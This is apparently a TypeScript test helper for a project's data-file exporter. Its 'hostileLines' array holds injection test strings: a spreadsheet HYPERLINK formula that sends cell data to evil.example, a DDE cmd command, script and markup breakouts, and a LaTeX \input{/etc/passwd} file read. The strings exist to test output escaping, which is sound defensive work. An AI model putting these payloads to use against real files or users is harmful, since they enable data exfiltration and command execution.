import { planDataFiles, writeDataFile } from "../../../../src/report/data/data-files.ts";
import type { OpenData } from "../../../../src/report/data/open-data.ts";
import { deriveSite } from "../../../../src/site/derive-site.ts";
import { buildChecked, type ModelChanges } from "../build-model.ts";

/** What the data files of a small project are made from. */
export function buildOpenData(changes: ModelChanges = {}, preview = false): OpenData {
  return deriveSite(buildChecked(changes), { preview }).data;
}

/** Writes one planned data file; fails for one that is not planned. */
export function dataFile(data: OpenData, path: string): string {
  const file = planDataFiles(data).find((each) => each.path === path);
  if (file === undefined) throw new Error(`No file ${path} is planned.`);
  return writeDataFile(data, file);
}

/** Writes all data files into one text, for what must be in none of them. */
export function allData(data: OpenData): string {
  return planDataFiles(data)
    .map((file) => writeDataFile(data, file))
    .join("\n");
}

/** Texts that break what is written carelessly, each a valid line of a claim file. */
export const hostileLines = [
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1;2)`,
  `＝1＋1 in full width`,
  `a, comma; semicolon and "quotation marks" and 'apostrophes'`,
  `]]> ends what it may not <!-- or begin --> & <script>alert(1)</script> &amp; &#0;`,
  `ER  - TY  - JOUR`,
  `100 % of $x_1$ & #2 {unbalanced \\} { ~ ^ \\input{/etc/passwd} @misc{other,`,
  `النص من اليمين إلى اليسار (2025) و English معًا`,
  `𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 e\u0301 and nothing behind`,
];
